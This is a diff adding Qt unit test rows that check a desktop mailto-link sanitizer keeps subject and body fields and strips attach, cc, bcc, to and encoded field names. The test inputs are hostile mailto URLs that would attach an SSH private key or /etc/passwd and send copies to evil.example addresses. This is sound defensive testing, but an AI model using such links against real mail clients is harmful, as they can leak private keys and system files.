@@ -204,6 +204,21 @@ void TestWebRules::desktopAddresses_data()
     QTest::newRow("mail, bare address") << "sendEmail"
                                         << "li.chen@harbourline.example"
                                         << "mailto:li.chen@harbourline.example";
+    QTest::newRow("mail, subject and body kept")
+        << "sendEmail"
+        << "mailto:li.chen@harbourline.example?subject=Q3%20plan&body=Hi%26bye"
+        << "mailto:li.chen@harbourline.example?subject=Q3%20plan&body=Hi%26bye";
+    QTest::newRow("mail, other fields dropped")
+        << "sendEmail"
+        << "mailto:li.chen@harbourline.example?attach=/home/user/.ssh/id_rsa&subject=Hi&bcc=x@evil.example"
+           "&Attachment=%2Fetc%2Fpasswd&cc=y@evil.example&to=z@evil.example&BODY=see&in-reply-to=1#frag"
+        << "mailto:li.chen@harbourline.example?subject=Hi&BODY=see";
+    QTest::newRow("mail, only fields to drop") << "sendEmail"
+                                               << "mailto:li.chen@harbourline.example?attach=%2Fetc%2Fpasswd"
+                                               << "mailto:li.chen@harbourline.example";
+    QTest::newRow("mail, an encoded field name") << "sendEmail"
+                                                 << "mailto:a@example.org?%61ttach=/etc/passwd&subj%65ct=x"
+                                                 << "mailto:a@example.org?subj%65ct=x";
     QTest::newRow("mail, web address") << "sendEmail"
                                        << "https://conf.example/"
                                        << "";
